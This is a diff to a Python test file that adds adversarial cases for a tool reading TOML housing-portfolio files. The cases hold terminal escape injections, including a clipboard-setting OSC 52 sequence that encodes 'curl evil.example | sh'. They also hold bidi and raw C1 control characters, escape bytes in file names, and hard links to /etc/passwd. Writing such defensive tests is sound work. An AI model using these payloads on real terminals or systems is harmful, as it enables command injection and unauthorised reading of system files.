@@ -284,3 +284,116 @@ CASES: list[Case] = [
     Case("a logo behind a symlinked folder", _logo_folder_symlink, CLEAN, mark=CLEAN),
 ]
 
+
+
+# ------------------------------------------------------------------ text no terminal may obey (issue 17, classes 0 and 8)
+
+OSC = "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b]2;pwned\\u0007"  # clipboard, window title
+BIDI = "\\u202egpj.exe\\u202c\\u2066x\\u2069\\u200f"  # an override, an isolate, a mark
+C1_RAW = "\u009b31m\u0085"  # the 8-bit CSI and NEL, written as they are (TOML allows them unescaped)
+
+
+def _company_name(value: str) -> Callable[[Path], None]:
+    return _replace(COMPANY, 'name = "Demobostäder AB"', f'name = "{value}Demobostäder AB"')
+
+
+def _city_named_file(raw_name: bytes, text_from: str = GBG, damage: bytes = b"") -> Callable[[Path], None]:
+    """Another file for a city, its name raw bytes (not UTF-8, escapes, a newline)."""
+
+    def build(root: Path) -> None:
+        data = (root / text_from).read_bytes() + damage
+        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
+            f.write(data)
+
+    return build
+
+
+def _renamed_raw(rel: str, raw_name: bytes, damage: bytes = b"") -> Callable[[Path], None]:
+    def build(root: Path) -> None:
+        data = (root / rel).read_bytes()
+        (root / rel).unlink()
+        with open(os.path.join(os.fsencode(root / "cities"), raw_name), "wb") as f:
+            f.write(data + damage)
+
+    return build
+
+
+CASES += [
+    Case("osc 52 and osc 2 in the company name", _company_name(OSC), CLEAN, mark=CLEAN),
+    Case("bidi controls in names, partners and notes", _all(
+        _company_name(BIDI),
+        _replace(GBG, 'organisation = "Polisen, lokalpolisområde Centrum"', f'organisation = "{BIDI}Polisen"'),
+        _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{BIDI}"'),
+    ), CLEAN, mark=CLEAN),
+    Case("raw c1 controls in a name and a note", _all(
+        _company_name(C1_RAW),
+        _replace(GBG, 'note = "Fastighetsskötarna återstår."', f'note = "{C1_RAW}"'),
+    ), CLEAN, mark=CLEAN),
+    Case("a city file named with a raw 0x9b byte", _city_named_file(b"1480-\x9b\x1b]2;x.toml"), FINDINGS),
+    Case("a city file named with a newline", _city_named_file(b"1480-a\nb.toml"), FINDINGS),
+    Case("an unreadable city file named with a raw 0x9b byte", _renamed_raw(STHLM, b"0180-\x9b.toml", b"\n[broken\n"),
+         UNREADABLE, "cities/0180-\\x9b.toml", mark_city="0180"),
+]
+
+
+# ------------------------------------------------------------------ files from outside, without a symlink (issue 17, class 2)
+
+
+def _link(src: Path | str, dst: Path) -> None:
+    """A hard link, also where the program runs without ``os.link`` (``HUSKURAGE_WITHOUT=link``): ``ln`` makes it."""
+    if hasattr(os, "link"):
+        os.link(src, dst)
+    else:
+        import subprocess
+
+        done = subprocess.run(["ln", str(src), str(dst)], capture_output=True)
+        if done.returncode:
+            raise OSError(done.stderr.decode(errors="replace"))
+
+
+def _hard_link_outside(rel: str, secret: bool = True) -> Callable[[Path], None]:
+    """``rel`` made a second name of a file outside the portfolio: /etc/passwd where the system allows the link,
+    else a copy of it beside the portfolio (a hard link needs one file system)."""
+
+    def build(root: Path) -> None:
+        outside = root.parent / (root.name + "-outside")
+        if secret:
+            try:
+                _link(SECRET, outside)
+            except OSError:
+                outside.write_bytes(Path(SECRET).read_bytes())
+        else:
+            os.replace(root / rel, outside)
+        if (root / rel).exists():
+            (root / rel).unlink()
+        _link(outside, root / rel)
+
+    return build
+
+
+def _logo_hard_link(root: Path) -> None:
+    _hard_link_outside("logos/polisen.png")(root)
+    _logos("logos/polisen.png")(root)
+
+
+CASES += [
+    Case("a logo that is a hard link to /etc/passwd", _logo_hard_link, CLEAN, mark=CLEAN),
+    Case("a city file with a second name outside the portfolio", _hard_link_outside(GBG, secret=False), UNREADABLE, GBG),
+    Case("a company file that is a hard link to /etc/passwd", _hard_link_outside(COMPANY), UNREADABLE, COMPANY, mark=CLEAN),
+]
+
+CASES += [
+    Case("a decimal schema", _set_line(GBG, "schema", "1.0"), UNREADABLE, GBG),  # class 11: "must be a whole number"
+]
+
+_CALENDAR_ENDS = '\n[[history]]\nat = 9999-12-31T23:59:59-14:00\nfield = "signs_up"\nold = "1"\nnew = "2"\n' \
+                 '\n[[history]]\nat = 0001-01-01T00:00:00+14:00\nfield = "signs_up"\nold = "2"\nnew = "3"\n'
+CASES += [  # class 5: every date TOML allows is a finding with its place, and the schedule skips what it cannot date
+    Case("a done item on the calendar's last day", _replace(GBG, "[progress.place_signs]\nstatus = \"done\"\ndate = 2026-06-12",
+                                                           "[progress.place_signs]\nstatus = \"done\"\ndate = 9999-12-31"), FINDINGS, mark=CLEAN),
+    Case("dates of year 1 and 9999 and offsets of 14 hours", _all(
+        _replace(GBG, "last_contact = 2026-09-14", "last_contact = 0001-01-01"),
+        _replace(COMPANY, "decision_date = 2026-03-02", "decision_date = 9999-12-31"),
+        _append(GBG, _CALENDAR_ENDS),
+    ), FINDINGS, mark=CLEAN),
+]
